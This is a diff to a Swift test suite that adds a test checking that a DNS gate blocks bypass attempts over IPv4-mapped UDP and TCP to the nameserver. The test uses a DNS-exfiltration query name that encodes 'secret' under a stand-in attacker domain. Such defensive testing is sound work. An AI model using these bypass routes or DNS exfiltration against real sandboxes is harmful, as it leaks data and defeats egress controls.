@@ -93,4 +93,22 @@ struct DNSGateTests {
         #expect(unbound.reports["connect"] == "EPERM")
         #expect(listener.messages() == ["hello"])
     }
+
+    @Test("no way around the gate: UDP to the IPv4-mapped spelling and TCP to the nameserver, even with a profile rule allowing it, reach nothing", arguments: ["mapped", "tcp"])
+    func noBypass(via: String) throws {
+        let nameserver = try Nameserver(address: via == "tcp" ? "127.0.0.79" : "127.0.0.80")
+        let profile = try Harness.profile("dns-bypass", """
+            identity: spiffe://test.example/agent/dns
+            rules:
+              - name: dns
+                to: [\(nameserver.address)]
+                ports: [53]
+            """)
+        let result = try Self.run(nameserver, profile: profile, ["exfil-c2VjcmV0.attacker.example", "--via", via])
+        let outcome = try #require(result.reports["exfil-c2VjcmV0.attacker.example"], "\(result.stdout)")
+        // Mapped UDP is the proxy's (refused by name); TCP to the nameserver is denied outright.
+        #expect(outcome == (via == "tcp" ? "errno1" : "rcode5"), "\(outcome)")
+        usleep(300_000)
+        #expect(nameserver.askedNames.isEmpty, "the nameserver was asked \(nameserver.askedNames)")
+    }
 }
